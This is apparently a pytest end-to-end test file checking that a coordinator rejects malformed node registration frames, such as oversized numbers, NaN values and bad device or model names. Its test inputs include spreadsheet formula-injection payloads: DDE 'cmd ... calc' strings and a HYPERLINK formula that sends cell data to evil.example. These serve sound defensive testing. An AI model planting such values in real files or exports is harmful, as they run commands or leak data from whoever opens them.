"""What a node reports is bounded (docs/protocol.md "Bounds"), over real sockets: a `register` with a
number out of its bounds, a device not of the names allowed or a model id outside the advertised set
gets one error frame naming the field, then the socket closes (1008) and nothing is listed; Hub-style
and tagged ids register."""

from __future__ import annotations

import asyncio
import json
from typing import Any, Callable

import pytest
from websockets.exceptions import ConnectionClosed

from darkbloom.wire.protocol import dump
from tests.coordinator.fleet.conftest import LiveCoordinator
from tests.support.raw_provider import RawProvider

pytestmark = pytest.mark.e2e

Start = Callable[..., LiveCoordinator]
POLICY_VIOLATION = 1008


def _register(raw: RawProvider, model: dict[str, Any] | None = None, **fields: Any) -> str:
    """``raw``'s register frame with its one model's fields and the frame's own changed, as JSON text."""
    frame = json.loads(dump(raw.register_frame()))
    frame["models"][0].update(model or {})
    frame.update(fields)
    return json.dumps(frame)


async def _refused(raw: RawProvider, text: str) -> dict[str, Any]:
    """Send ``text`` as the first frame: the error frame it gets, after which the socket must close 1008
    at once (well within the 30 s a registration may take)."""
    ws = await raw.connect()
    await ws.send(text)
    error = json.loads(await asyncio.wait_for(ws.recv(), 10))
    with pytest.raises(ConnectionClosed) as closed:
        await asyncio.wait_for(ws.recv(), 10)
    assert closed.value.rcvd is not None and closed.value.rcvd.code == POLICY_VIOLATION
    return error


async def test_a_model_of_absurd_size_is_refused_naming_the_field(live_coordinator: Start) -> None:
    coord = live_coordinator()
    raw = RawProvider(coord.base_url, models=("smollm2-135m",), loaded=())
    error = await _refused(raw, _register(raw, {"size_bytes": 10 ** 400}))
    assert (error["type"], error["code"]) == ("error", "malformed_frame")
    assert "register.models.0.size_bytes" in error["message"] and "registration refused" in error["message"]
    assert list(coord.services.registry.all()) == []
    registered = await asyncio.wait_for(RawProvider(coord.base_url).register(), 10)  # others still register
    assert registered["type"] == "registered"


@pytest.mark.parametrize("model, fields, where", [
    ({"context_length": 2 ** 40}, {}, "models.0.context_length"),
    ({}, {"decode_tps": float("inf")}, "decode_tps"),
    ({}, {"hardware": {"cpu_count": 8, "memory_gb": float("nan")}}, "hardware.memory_gb"),
    ({}, {"max_concurrency": 10 ** 30}, "max_concurrency"),
    ({}, {"hardware": {"cpu_count": 8, "device": "=cmd|' /C calc'!A0"}}, "hardware.device"),
])
async def test_every_number_a_node_reports_is_bounded(live_coordinator: Start, model: dict[str, Any],
                                                      fields: dict[str, Any], where: str) -> None:
    coord = live_coordinator()
    raw = RawProvider(coord.base_url)
    error = await _refused(raw, _register(raw, model, **fields))
    assert error["code"] == "malformed_frame" and f"register.{where}:" in error["message"]
    assert list(coord.services.registry.all()) == []


@pytest.mark.parametrize("model_id", ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0",
                                      "@SUM(1+1)", "-2+3", "two words", "m" * 300])
async def test_a_model_id_outside_the_advertised_set_is_refused(live_coordinator: Start, model_id: str) -> None:
    coord = live_coordinator()
    raw = RawProvider(coord.base_url)
    error = await _refused(raw, _register(raw, {"id": model_id}))
    assert error["code"] == "malformed_frame" and "register.models.0.id:" in error["message"]
    assert list(coord.services.registry.all()) == []


async def test_hub_style_and_tagged_ids_register(live_coordinator: Start) -> None:
    coord = live_coordinator()
    raw = RawProvider(coord.base_url, models=("smollm2-135m", "owner/name", "qwen2.5:0.5b"))
    registered = await asyncio.wait_for(raw.register(), 10)
    session = coord.session(registered["provider_id"])
    assert session is not None and session.advertised_models == {"smollm2-135m", "owner/name", "qwen2.5:0.5b"}
    await raw.close()
